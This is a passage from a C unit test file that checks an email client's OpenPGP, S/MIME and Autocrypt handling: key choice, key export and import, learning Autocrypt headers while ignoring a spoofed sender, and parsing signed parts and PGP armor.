		crypto_key_for(cx, CRYPTO_OPENPGP, refused[i].addr, true, &k);
		if (k.status != refused[i].st)
			fail_msg("%s: status %d (%s)", refused[i].addr, k.status, k.reason ? k.reason : "");
		assert_non_null(strstr(k.reason, refused[i].reason));
		assert_int_equal(k.n, 0);
		crypto_keysel_clear(&k);
	}
	crypto_key_for(cx, CRYPTO_SMIME, "alice@example.org", true, &k);
	assert_int_equal(k.status, CRYPTO_KEY_OK);
	assert_string_equal(k.fpr, fpr_smime);
	crypto_keysel_clear(&k);
	crypto_key_for(cx, CRYPTO_OPENPGP, "alice@example.org", false, &k);
	assert_int_equal(k.status, CRYPTO_KEY_OK);
	crypto_keysel_clear(&k);
}

static void test_key_part(void **state)
{
	(void)state;
	char *out = NULL, *err = NULL;
	size_t n;
	assert_int_equal(crypto_key_part(cx, fpr_alice, &out, &n, &err), 0);
	assert_non_null(strstr(out, "Content-Type: application/pgp-keys"));
	assert_non_null(strstr(out, "-----BEGIN PGP PUBLIC KEY BLOCK-----"));
	free(put("k.txt", strstr(out, "-----BEGIN")));
	sh("gpg --batch --show-keys k.txt | grep -q alice@example.org");
	free(out);
	assert_int_equal(crypto_key_part(cx, "ice@example.org", &out, &n, &err), -1); /* not a substring match */
	assert_non_null(err);
	free(err);
	assert_int_equal(crypto_key_part(cx, "nobody@example.org", &out, &n, &err), -1);
	assert_non_null(err);
	free(err);
}

/* Autocrypt: bob's keydata (base64 of his key) into a keyring of its own */
static void test_autocrypt_import(void **state)
{
	(void)state;
	int st;
	char *kd = tu_run(&st, "gpg --batch --export --export-options export-minimal %s 2>/dev/null | base64 -w0", fpr_bob);
	assert_int_equal(st, 0);
	char *ahome = xasprintf("%s/autocrypt", dir), *err = NULL, *fpr = NULL;
	free(tu_run(&st, "mkdir -m 700 %s", ahome));
	crypto_t *ac = crypto_new(&(struct crypto_opts){.gnupg_home = ahome}, &err);
	assert_non_null(ac);
	if (crypto_import_keydata(ac, kd, &fpr, &err) != 0)
		fail_msg("%s", err);
	assert_string_equal(fpr, fpr_bob);
	free(fpr);
	/* the key is in that keyring only; not certified there, so the
	 * ordinary key choice refuses it (Autocrypt encrypts to the
	 * fingerprint its peer table holds, compose_crypt.c) */
	struct crypto_keysel sel = { 0 };
	crypto_key_for(ac, CRYPTO_OPENPGP, "bob@example.org", true, &sel);
	assert_int_equal(sel.status, CRYPTO_KEY_UNUSABLE);
	crypto_keysel_clear(&sel);
	char *listed = tu_run(&st, "GNUPGHOME=%s gpg --batch --with-colons --list-keys 2>/dev/null | grep -c '^pub'", ahome);
	assert_int_equal(atoi(listed), 1);
	free(listed);
	/* not key data */
	assert_int_equal(crypto_import_keydata(ac, "AAAA", &fpr, &err), -1);
	assert_non_null(err);
	free(err);
	crypto_free(&ac);
	free(tu_run(&st, "GNUPGHOME=%s gpgconf --kill all", ahome));
	free(ahome);
	free(kd);
}

/* Autocrypt: a message from bob with his header is learnt into the
 * account's table and keyring (not the user's); the recommendation
 * follows; a header naming someone else, an older message and a second
 * read change nothing; our own keydata comes from crypto_export_keydata */
static void test_autocrypt_learn(void **state)
{
	(void)state;
	int st;
	char *kd = tu_run(&st, "gpg --batch --export --export-options export-minimal %s 2>/dev/null | base64 -w0", fpr_bob);
	assert_int_equal(st, 0);
	char *adir = xasprintf("%s/ac/autocrypt/work", dir), *err = NULL;
	char *hdr = autocrypt_header_make("bob@example.org", true, kd);
	char *msg = xasprintf("From: Bob <Bob@Example.org>\r\nTo: alice@example.org\r\n"
			      "Date: Mon, 1 Jun 2026 10:00:00 +0000\r\nAutocrypt: %s\r\nSubject: hi\r\n\r\nhello\r\n", hdr);
	char *file = tu_write(dir, "ac-msg", msg, 0600);
	assert_int_equal(autocrypt_learn_file(adir, file, &err), 1);
	assert_null(err);
	assert_int_equal(autocrypt_learn_file(adir, file, &err), 0); /* not newer */
	autocrypt_peers_t *t = autocrypt_peers_load(adir);
	const char *fpr = NULL;
	const struct autocrypt_peer *p = autocrypt_peers_find(t, "bob@example.org", &fpr);
	assert_non_null(p);
	assert_string_equal(fpr, fpr_bob);
	assert_true(p->prefer_encrypt);
	const char *to[] = { "bob@example.org", NULL };
	assert_int_equal(autocrypt_peers_recommend(t, to, true), AUTOCRYPT_ENCRYPT);
	autocrypt_peers_free(&t);
	char *listed = tu_run(&st, "GNUPGHOME=%s/gnupg gpg --batch --with-colons --list-keys 2>/dev/null | grep -c '^fpr:.*%s'",
			      adir, fpr_bob);
	assert_int_equal(atoi(listed), 1);
	free(listed);
	/* mallory sends bob's address in his header: ignored (From: is mallory) */
	free(msg);
	msg = xasprintf("From: mallory@example.org\r\nDate: Tue, 2 Jun 2026 10:00:00 +0000\r\nAutocrypt: %s\r\n\r\nx\r\n",
			hdr);
	free(file);
	file = tu_write(dir, "ac-msg2", msg, 0600);
	autocrypt_learn_file(adir, file, &err);
	t = autocrypt_peers_load(adir);
	p = autocrypt_peers_find(t, "mallory@example.org", &fpr);
	assert_true(!p || !p->public_key);
	autocrypt_peers_free(&t);
	/* our own keydata: alice's key, importable as one key */
	char *mine = NULL, *mfpr = NULL, *ifpr = NULL;
	if (crypto_export_keydata(cx, "alice@example.org", &mine, &mfpr, &err) != 0)
		fail_msg("%s", err);
	assert_string_equal(mfpr, fpr_alice);
	struct autocrypt_header h;
	char *ours = autocrypt_header_make("alice@example.org", false, mine);
	assert_true(autocrypt_header_parse(ours, &h));
	char *ghome = xasprintf("%s/gnupg", adir);
	crypto_t *ac = crypto_new(&(struct crypto_opts){.gnupg_home = ghome}, &err);
	assert_non_null(ac);
	if (crypto_import_keydata(ac, h.keydata, &ifpr, &err) != 0)
		fail_msg("%s", err);
	assert_string_equal(ifpr, fpr_alice);
	crypto_free(&ac);
	free(tu_run(&st, "GNUPGHOME=%s gpgconf --kill all", ghome));
	autocrypt_header_clear(&h);
	free(ghome);
	free(ours);
	free(ifpr);
	free(mine);
	free(mfpr);
	free(file);
	free(msg);
	free(hdr);
	free(adir);
	free(kd);
}

/* ---- the parsing around GPGME ---- */

static void test_signed_split(void **state)
{
	(void)state;
	const char *sp, *gp;
	size_t sl, gl;
	const char *b = "pre\r\n--X\r\nA\r\n\r\nbody\r\n--X \r\nsig\r\n--X--\r\nepilogue";
	assert_true(crypto_signed_split(b, strlen(b), "X", &sp, &sl, &gp, &gl));
	assert_int_equal(sl, 9);
	assert_memory_equal(sp, "A\r\n\r\nbody", 9);
	assert_int_equal(gl, 3);
	assert_memory_equal(gp, "sig", 3);
	const char *lf = "--X\nbody\n--X\nsig";
	assert_true(crypto_signed_split(lf, strlen(lf), "X", &sp, &sl, &gp, &gl));
	assert_int_equal(sl, 4);
	assert_int_equal(gl, 3);
	assert_false(crypto_signed_split("--X\nbody\n--X--\n", 16, "X", &sp, &sl, &gp, &gl));
	assert_false(crypto_signed_split("--XY\nbody\n--XY\n", 16, "X", &sp, &sl, &gp, &gl));
	assert_false(crypto_signed_split("body", 4, "", &sp, &sl, &gp, &gl));
	size_t n;
	char *c = crypto_canon_crlf("a\nb\r\nc", 6, &n);
	assert_int_equal(n, 7);
	assert_string_equal(c, "a\r\nb\r\nc");
	free(c);
}

static void test_armor_find(void **state)
{
	(void)state;
	const char *t = "x\n-----BEGIN PGP MESSAGE-----\nabc\n-----END PGP MESSAGE-----\ny\n"
			"-----BEGIN PGP SIGNED MESSAGE-----\nno end\n";
	size_t pos = 0, start, len;
	enum crypto_armor k;
	assert_true(crypto_armor_find(t, strlen(t), &pos, &start, &len, &k));
	assert_int_equal(k, CRYPTO_ARMOR_MESSAGE);
	assert_int_equal(start, 2);
	assert_memory_equal(t + start + len - 26, "-----END PGP MESSAGE-----\n", 26);
	assert_false(crypto_armor_find(t, strlen(t), &pos, &start, &len, &k));
	pos = 0;
	const char *quoted = "> -----BEGIN PGP MESSAGE-----\n> -----END PGP MESSAGE-----\n";
	assert_false(crypto_armor_find(quoted, strlen(quoted), &pos, &start, &len, &k));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_signed_split),
		cmocka_unit_test(test_armor_find),
		cmocka_unit_test_teardown(test_pgp_signed_good, teardown),
		cmocka_unit_test_teardown(test_pgp_signed_bad, teardown),
		cmocka_unit_test_teardown(test_pgp_signed_unknown_key, teardown),
		cmocka_unit_test_teardown(test_signer_not_from, teardown),
		cmocka_unit_test_teardown(test_signed_part_wrapped, teardown),
		cmocka_unit_test_teardown(test_signed_forwarded, teardown),
		cmocka_unit_test_teardown(test_pgp_encrypted, teardown),
		cmocka_unit_test_teardown(test_pgp_encrypted_signed, teardown),
		cmocka_unit_test_teardown(test_nested, teardown),
		cmocka_unit_test_teardown(test_plaintext_next_to_decrypted, teardown),
		cmocka_unit_test_teardown(test_no_mdc_refused, teardown),
		cmocka_unit_test_teardown(test_tampered_ciphertext, teardown),
		cmocka_unit_test_teardown(test_size_cap, teardown),
		cmocka_unit_test_teardown(test_many_recipients_timeout, teardown),
		cmocka_unit_test_teardown(test_caps, teardown),
		cmocka_unit_test_teardown(test_inline_signed, teardown),
		cmocka_unit_test_teardown(test_inline_expired_revoked, teardown),
		cmocka_unit_test_teardown(test_inline_encrypted, teardown),
		cmocka_unit_test_teardown(test_smime_detached, teardown),
		cmocka_unit_test_teardown(test_smime_opaque_and_enveloped, teardown),
		cmocka_unit_test_teardown(test_write_pgp_signed, teardown),
		cmocka_unit_test_teardown(test_write_pgp_encrypted, teardown),
		cmocka_unit_test_teardown(test_loopback_passphrase, teardown),
		cmocka_unit_test_teardown(test_write_smime, teardown),
		cmocka_unit_test(test_key_choice),
		cmocka_unit_test(test_key_part),
		cmocka_unit_test(test_autocrypt_import),
		cmocka_unit_test(test_autocrypt_learn),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
